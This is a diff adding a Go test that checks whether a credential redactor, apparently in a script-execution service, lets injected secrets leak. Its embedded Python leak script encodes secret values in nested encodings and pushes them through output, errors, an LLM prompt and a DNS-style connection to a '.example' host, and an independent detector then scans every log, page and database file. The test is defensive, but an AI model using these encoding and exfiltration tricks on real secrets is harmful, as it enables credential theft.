@@ -1,0 +1,215 @@
+package main
+
+import (
+	"crypto/rand"
+	"encoding/json"
+	"fmt"
+	"io"
+	mathrand "math/rand/v2"
+	"net/http"
+	"net/http/cookiejar"
+	"net/url"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+)
+
+// detector is a program that shares no code with the redactor.
+const detector = "../../app/redact/proof/detect.py"
+
+// Leak attempts on the whole program: executions, each with as many values and each value in every channel.
+const (
+	leakRuns   = 16
+	leakValues = 4
+)
+
+// leakScript sends each value through every channel, in the encodings that inputs name, innermost first. The last value is the error.
+const leakScript = `import base64, codecs, gzip, json, socket, sys, urllib.parse
+encoders = {
+    "base64": lambda s: base64.b64encode(b"user:" + s.encode()).decode(),
+    "base64url": lambda s: base64.urlsafe_b64encode(s.encode()).decode().rstrip("="),
+    "base32": lambda s: base64.b32encode(s.encode()).decode(),
+    "hex": lambda s: s.encode().hex(),
+    "percent": lambda s: "".join("%%%02X" % b for b in s.encode()),
+    "json": lambda s: "".join("\\u%04x" % ord(c) for c in s),
+    "reversed": lambda s: s[::-1],
+    "rot13": lambda s: codecs.encode(s, "rot13"),
+    "gzip": lambda s: base64.b64encode(gzip.compress(s.encode())).decode(),
+    "spaced": lambda s: " ".join(s),
+}
+result, last = {}, ""
+for key, forms in inputs:
+    text = settings.get(key)
+    for form in forms:
+        text = encoders[form](text)
+    for i in range(0, len(text), 7):
+        print(text[i:i + 7], end="", flush=True)
+    print()
+    print("to stderr:", text, file=sys.stderr)
+    result[text] = [text, {"deep": [text[:len(text) // 2], text[len(text) // 2:]]}]
+    llm.complete("What is " + text + "?")
+    if len(text) < 64:  # what is longer is no name
+        try:
+            socket.create_connection((text + ".example", 443), timeout=5)
+        except (OSError, UnicodeError):
+            pass
+    last = text
+set_result(result)
+raise RuntimeError("failed with " + last)
+# typed in by hand: `
+
+// TestNothingLeaks sends random values in nested encodings through every channel of the real program, and lets the detector look at every
+// answer, page, log line and page of the database, the write-ahead log among them.
+func TestNothingLeaks(t *testing.T) {
+	in := startInstance(t, "AIRLOCK_POOL=1")
+	profile := []string{"profile", "create", "--description", "leaks"}
+	for i := range leakValues {
+		in.admin("not-yet-"+rand.Text(), "credential", "set", fmt.Sprintf("VALUE_%d", i), "--mode", "injected")
+		profile = append(profile, "--key", fmt.Sprintf("VALUE_%d", i))
+	}
+	id := in.admin("", profile...)
+	in.admin("", "profile", "lock", id)
+	random := mathrand.New(mathrand.NewPCG(1, 2))
+	var all []string
+	for range leakRuns {
+		var plan []any
+		script := leakScript
+		for i := range leakValues {
+			value := rand.Text() + "-" + rand.Text()[:6]
+			all = append(all, value)
+			key := fmt.Sprintf("VALUE_%d", i)
+			in.admin(value, "credential", "set", key)
+			plan = append(plan, []any{key, nested(random)})
+			script += value + " "
+		}
+		in.answerAll(id, script, plan)
+	}
+	pages := in.allPages()
+	if pages < leakRuns {
+		t.Errorf("only %d pages of executions were seen", pages)
+	}
+	_ = in.server.Process.Kill() // so that the write-ahead log stays
+	_ = in.server.Wait()
+	in.detect(all)
+}
+
+// nested names encoders, the innermost first.
+func nested(random *mathrand.Rand) []string {
+	names := []string{"base64", "base64url", "base32", "hex", "percent", "json", "reversed", "rot13", "gzip", "spaced"}
+	forms := []string{}
+	for range random.IntN(4) {
+		forms = append(forms, names[random.IntN(len(names))])
+	}
+	return forms
+}
+
+// answerAll runs a script, answers all its questions and waits for its end, which must be its own error.
+func (in *testServer) answerAll(profile, script string, inputs any) {
+	in.t.Helper()
+	var x struct {
+		agentView
+		Request *struct{} `json:"llm_request"`
+	}
+	if code := in.call(http.MethodPost, "/execute", map[string]any{"profile_id": profile, "script": script, "inputs": inputs}, &x); code != http.StatusAccepted {
+		in.t.Fatalf("submit: status %d", code)
+	}
+	answered := 0
+	for deadline := time.Now().Add(60 * time.Second); time.Now().Before(deadline); {
+		x.Request = nil
+		in.call(http.MethodGet, "/executions/"+x.ID+"?wait=5", nil, &x)
+		switch {
+		case x.terminal():
+			if x.Status != "error" || answered < leakValues { // what the error says may well be masked as a whole
+				in.t.Fatalf("the script ended as %s after %d questions: %s\n%s", x.Status, answered, x.Error, x.Stderr)
+			}
+			return
+		case x.Request != nil:
+			answered++
+			in.call(http.MethodPost, "/executions/"+x.ID+"/respond", map[string]any{"response": "thanks"}, nil)
+		}
+	}
+	in.t.Fatal("the script has not ended")
+}
+
+var executionLink = regexp.MustCompile(`/ui/executions/[0-9a-z]{20,}`)
+
+// allPages keeps every page of every execution, as a person sees it, for the detector. It returns how many.
+func (in *testServer) allPages() int {
+	in.t.Helper()
+	jar, err := cookiejar.New(nil)
+	must(in.t, err)
+	client := &http.Client{Jar: jar}
+	for _, step := range []struct {
+		path   string
+		fields url.Values
+	}{
+		{"/ui/login", url.Values{"token": {"atk_a-token-of-the-test-suite"}}},
+		{"/ui/welcome", url.Values{"name": {"Tester"}, "password": {"a password of the tests"}, "password-again": {"a password of the tests"}}},
+	} {
+		response, err := client.PostForm(in.url+step.path, step.fields)
+		must(in.t, err)
+		response.Body.Close()
+	}
+	seen := map[string]bool{}
+	queue := []string{"/ui", "/ui/executions", "/ui/profiles", "/ui/credentials", "/ui/audit"}
+	for len(queue) > 0 {
+		path := queue[0]
+		queue = queue[1:]
+		response, err := client.Get(in.url + path)
+		must(in.t, err)
+		text, err := io.ReadAll(response.Body)
+		must(in.t, err)
+		response.Body.Close()
+		if response.StatusCode != http.StatusOK {
+			in.t.Errorf("%s: status %d", path, response.StatusCode)
+		}
+		in.keep(text)
+		for _, link := range executionLink.FindAllString(string(text), -1) {
+			if !seen[link] {
+				seen[link] = true
+				queue = append(queue, link)
+			}
+		}
+	}
+	return len(seen)
+}
+
+// traces are the files of all that came out: every answer, the log, and what is in the data directory.
+func (in *testServer) traces() []string {
+	files := []string{in.answers, in.log}
+	data, err := filepath.Glob(filepath.Join(in.dir, "*"))
+	must(in.t, err)
+	for _, path := range data {
+		if info, err := os.Stat(path); err == nil && info.Mode().IsRegular() {
+			files = append(files, path)
+		}
+	}
+	return files
+}
+
+// detect lets an independent program look for secrets in every answer, the log and every page of the database. The flag --whole makes it look for
+// whole secrets only, for scripts that hand out parts on purpose.
+func (in *testServer) detect(secrets []string, flags ...string) {
+	in.t.Helper()
+	list := filepath.Join(in.t.TempDir(), "secrets")
+	must(in.t, os.WriteFile(list, []byte(strings.Join(secrets, "\n")), 0o600))
+	args := slices.Concat([]string{detector}, flags, []string{list}, in.traces())
+	out, err := exec.Command(boxPython, args...).CombinedOutput()
+	if err != nil {
+		in.t.Errorf("%v\n%s", err, out)
+	}
+	in.t.Logf("%s", out)
+	// The detector itself must be able to find something.
+	planted := filepath.Join(in.t.TempDir(), "planted")
+	text, err := json.Marshal(map[string]string{"a": "x" + secrets[0] + "x"})
+	must(in.t, err)
+	must(in.t, os.WriteFile(planted, text, 0o600))
+	if exec.Command(boxPython, detector, list, planted).Run() == nil {
+		in.t.Error("the detector finds nothing at all")
+	}
+}
